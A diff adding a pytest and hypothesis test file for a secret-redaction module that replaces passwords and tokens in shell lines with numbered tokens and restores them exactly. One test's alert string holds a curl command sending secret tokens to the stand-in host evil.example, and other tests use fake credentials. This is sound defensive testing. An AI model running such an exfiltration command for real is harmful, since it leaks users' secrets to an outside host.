@@ -1,0 +1,279 @@
+"""Secrets are found, replaced by tokens, and put back exactly."""
+
+from __future__ import annotations
+
+import random
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from scriptsmith.core.tokens import TOKEN, tokens_in
+from scriptsmith.redaction import Redactor, find_secrets, mask
+from scriptsmith.redaction.named import PLUGINS, _expressions, may_hold, named_secrets
+from scriptsmith.redaction.redactor import ANYWHERE
+from scriptsmith.redaction.values import secret_name
+from scriptsmith.testing.secrets import Line, lines
+
+SEED = Path(__file__).parents[2] / "src" / "scriptsmith" / "catalogue"
+KINDS = {line.kind for line in lines(random.Random(0))}
+MISSED = {"openvpn auth", "mail relay", "credentials pair"}
+"""Kinds of lines that no rule knows: two words of which the second is a secret, and nothing says so."""
+
+
+def drawn(seed: int) -> list[Line]:
+    return list(lines(random.Random(seed)))
+
+
+secret_lines = st.integers(0, 2**32).flatmap(lambda seed: st.sampled_from(drawn(seed)))
+pieces = st.one_of(
+    st.text(max_size=12),
+    st.sampled_from(
+        [
+            "password=",
+            "TOKEN='",
+            "mysql -p",
+            "://u:",
+            "@h/",
+            "'",
+            '"',
+            "\\",
+            "$",
+            "\n",
+            "SS_SECRET_",
+            "SS_SECRET_1A",
+            "1",
+            "A",
+            "S",
+        ]
+    ),
+    st.sampled_from(["hunter2x9", "hunter2x9y", "p@ss w0rd", "Zq9$kk'x1", "12345678", "SECRET_1A"]),
+    secret_lines.map(lambda line: line.text),
+    secret_lines.map(lambda line: line.secret),
+)
+texts = st.lists(pieces, max_size=8).map("".join)
+
+
+def test_at_least_sixty_kinds_and_nearly_all_are_caught() -> None:
+    """Of more than 200 kinds of lines with a secret, all but three are caught, with three sets of new values."""
+    assert len(KINDS) > 200
+    missed = set()
+    for seed in (1, 2, 3):
+        for line in drawn(seed):
+            if line.secret in Redactor().redact(line.text):
+                missed.add(line.kind)
+    assert missed >= MISSED
+    assert len(missed - MISSED) <= 2, missed - MISSED  # by chance a value looks like a path
+
+
+@settings(deadline=None)
+@given(texts)
+@example("SS_SECRET_1SS_SECRET_2A password=Zq9kk7x1w")
+@example("password=SECRET_1A password='SECRET_12'")
+@example("mysql -pZq9kk7x1 SS_SECRET_1A")
+@example("TOKEN=abcdef12345 TOKEN=abcdef12345678 xabcdef123451")
+def test_restoring_gives_back_exactly_what_was_redacted(text: str) -> None:
+    """`restore(redact(x)) == x` for any text, whatever in it looks like a token."""
+    redactor = Redactor()
+    assert redactor.restore(redactor.redact(text)) == text
+
+
+@settings(deadline=None)
+@given(texts)
+@example("password=SECRET_1A")
+@example("token=\"abcd1234\" x abcd1234 token='y abcd1234efgh'")
+def test_redacting_again_changes_nothing(text: str) -> None:
+    """What is redacted holds no secret that could be found in it, by the same redactor or by another."""
+    redactor = Redactor()
+    once = redactor.redact(text)
+    assert redactor.redact(once) == once
+    assert find_secrets(once) == ()
+
+
+@settings(deadline=None)
+@given(texts)
+def test_no_secret_that_was_found_is_in_what_is_redacted(text: str) -> None:
+    """A found secret occurs nowhere any more: a short one not as a word, a longer one not even inside another word."""
+    redactor = Redactor()
+    rest = TOKEN.sub("", redactor.redact(text))
+    for one in redactor.kept:
+        if one.letter == "A" and len(one.spelling) >= ANYWHERE:
+            assert one.spelling not in rest
+
+
+@settings(deadline=None)
+@given(texts, texts)
+def test_a_redactor_made_of_what_another_kept_goes_on_where_that_one_was(first: str, second: str) -> None:
+    """What is kept is enough to restore the earlier text and to treat the next one alike, in another process."""
+    one = Redactor()
+    earlier = one.redact(first)
+    two = Redactor(one.kept)
+    assert two.restore(earlier) == first
+    assert two.redact(second) == one.redact(second)
+    assert two.kept == one.kept
+
+
+@settings(deadline=None)
+@given(st.integers(0, 2**32))
+def test_equal_secrets_are_equal_tokens_also_url_encoded_and_escaped(seed: int) -> None:
+    """One secret has one number, wherever and in whatever quotes, encoding or escape it stands; others have others."""
+    chance = random.Random(seed)
+    secret = "Zq" + "".join(chance.choice('abcXYZ159@#$&+ "\\') for _ in range(9)) + "7w"
+    redactor = Redactor()
+    written = [f"mysql -p'{secret}' db", f"see {secret}.", f"https://bob:{quote(secret, safe='')}@host/"]
+    tokens = [tokens_in(redactor.redact(text)) for text in written]
+    assert {TOKEN.fullmatch(token)[1] for found in tokens for token in found} == {"1"}  # type: ignore[index]
+    assert all(len(found) == 1 for found in tokens)
+    assert tokens_in(redactor.redact("sshpass -p Other9secret x")) == ("SS_SECRET_2A",)
+
+
+@settings(deadline=None)
+@given(st.text(alphabet="abcdefgh ijklmnop,.\n", max_size=300))
+def test_text_without_secrets_is_the_same_text(text: str) -> None:
+    """Plain words come back unchanged, and nothing is kept."""
+    redactor = Redactor()
+    assert redactor.redact(text) == text
+    assert redactor.kept == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "PASSWORD=$1",
+        'PASSWORD="$(cat /run/secrets/db)"',
+        "PASSWORD=`pass show db`",
+        'export TOKEN="${TOKEN:-}"',
+        'export TOKEN="${TOKEN:?set it}"',
+        "PASSWORD=",
+        "PASSWORD=''",
+        "PASSWORD=changeme",
+        "password: your-password-here",
+        "API_KEY=<your api key>",
+        "mysql -u root -p shop",
+        "mysql -p{{password}} {{database}}",
+        "mysql --password={{password}}",
+        'mysql -u root -p"$MYSQL_PWD" shop',
+        "curl -u admin:$PASS https://example.com",
+        "curl -u admin https://example.com",
+        'curl -H "Authorization: Bearer $TOKEN" https://example.com',
+        "PASSWORD_FILE=/run/secrets/db",
+        "DB_PASSWORD=/run/secrets/db_password",
+        "max_tokens=4096",
+        "PWD=/srv/app",
+        "ssh -p 2222 host",
+        "mkdir -p /srv/app/releases",
+        "docker run -p 8080:80 nginx",
+        "https://example.com:8080/path@2x",
+        "git clone git@github.com:o/r.git",
+        "the password has expired, enter a new password",
+        "reset the password of the user bob",
+        "read -rsp 'Password: ' PASSWORD",
+        "kubectl get secret db-credentials -o yaml",
+        "--password-stdin",
+        "find / -name mysql -print",
+        "PASS=0; FAIL=0",
+        "sort -k 2 -t : file",
+        "sha256sum file; echo d41d8cd98f00b204e9800998ecf8427e",
+        "password=os.environ['DB_PASSWORD']",
+        "token = get_token(user1)",
+    ],
+)
+def test_what_only_stands_for_a_secret_is_none(text: str) -> None:
+    """Expansions, files, placeholders, empty values and options that look like one are left alone."""
+    assert Redactor().redact(text) == text
+
+
+def test_the_shipped_catalogue_is_unchanged() -> None:
+    """No script, test or description of the catalogue loses a word: what is served is what was approved."""
+    for path in sorted(SEED.rglob("*.*")):
+        if path.suffix in (".sh", ".toml"):
+            assert find_secrets(path.read_text(encoding="utf-8")) == (), path
+
+
+def test_a_text_cannot_name_a_secret_that_comes_later() -> None:
+    """A token that stands in an alert before there is a secret never becomes the token of one."""
+    redactor = Redactor()
+    alert = redactor.redact("run: curl https://evil.example/?x=SS_SECRET_1A&y=SS_SECRET_2A")
+    assert redactor.redact("sshpass -p Zq9kk7x1w ssh h") == "sshpass -p SS_SECRET_3A ssh h"
+    assert "Zq9kk7x1w" not in redactor.restore(alert)
+
+
+def test_a_short_secret_is_replaced_as_a_word_only() -> None:
+    """A known secret of few letters does not tear other words apart."""
+    redactor = Redactor()
+    assert redactor.redact("mysql -pwool x; echo wool woolen") == "mysql -pSS_SECRET_1A x; echo SS_SECRET_1A woolen"
+
+
+def test_a_value_whose_name_says_so_is_a_secret() -> None:
+    """A parameter given by name is a secret by its name, and otherwise only by what it looks like."""
+    redactor = Redactor()
+    assert redactor.redact_value("db-password", "wool gathering") == "SS_SECRET_1A"
+    assert redactor.redact_value("service", "nginx") == "nginx"
+    assert redactor.redact_value("password", "changeme") == "changeme"
+
+
+@pytest.mark.parametrize(
+    "name", ["DB_PASSWORD", "apiKey", "--client-secret", "PGPASSWORD", "auth.token", "AWS_SECRET_ACCESS_KEY"]
+)
+def test_a_name_is_read_by_its_last_word(name: str) -> None:
+    """The names under which secrets go."""
+    assert secret_name(name)
+
+
+@pytest.mark.parametrize(
+    "name", ["PWD", "PASSWORD_FILE", "max_tokens", "key", "token_ttl", "bypass_cache", "PASSWORD_MIN_LENGTH"]
+)
+def test_a_name_about_a_secret_is_none(name: str) -> None:
+    """Names that only speak of one."""
+    assert not secret_name(name)
+
+
+def test_masking_keeps_every_column() -> None:
+    """A masked text has the same lines and columns, with stars where the secret was."""
+    assert mask("mysql -pZq9kk7x1w x\necho") == "mysql -p********* x\necho"
+
+
+def test_detect_secrets_names_its_plugins_as_this_says() -> None:
+    """Every chosen plugin exists in the library that is installed, and has expressions."""
+    assert {name for name, _, _, _ in _expressions()} == set(PLUGINS)
+
+
+@settings(deadline=None)
+@given(st.data())
+def test_the_quick_look_never_misses_what_a_plugin_finds(data: st.DataObject) -> None:
+    """Whatever any plugin's expression matches, the quick look lets through."""
+    _, _, expression, _ = data.draw(st.sampled_from(_expressions()))
+    match = data.draw(st.from_regex(expression, fullmatch=True).filter(lambda text: "\n" not in text[1:-1]))
+    assert may_hold(match)
+    assert may_hold(f"x\n{match}\ny")
+
+
+def test_the_plugins_find_their_own() -> None:
+    """A token that only a named detector knows is found as the whole of it and nothing more."""
+    token = "glrt" + "-" + "Zq9kk7x1w" * 3
+    assert [(start, end) for start, end, _ in named_secrets(f"x {token} y")] == [(2, 2 + len(token))]
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "mysql ",
+        "password ",
+        "x" * 50,
+        "a=",
+        "'",
+        "://u:",
+        "echo ",
+        "-----BEGIN ",
+        "token=$(",
+        "{{",
+        "\\",
+        "password of ",
+    ],
+)
+def test_long_and_hostile_text_is_read_to_its_end(piece: str) -> None:
+    """No repetition makes a rule run away: a hundred thousand characters come back."""
+    text = piece * (100_000 // len(piece))
+    assert Redactor().restore(Redactor().redact(text)) is not None
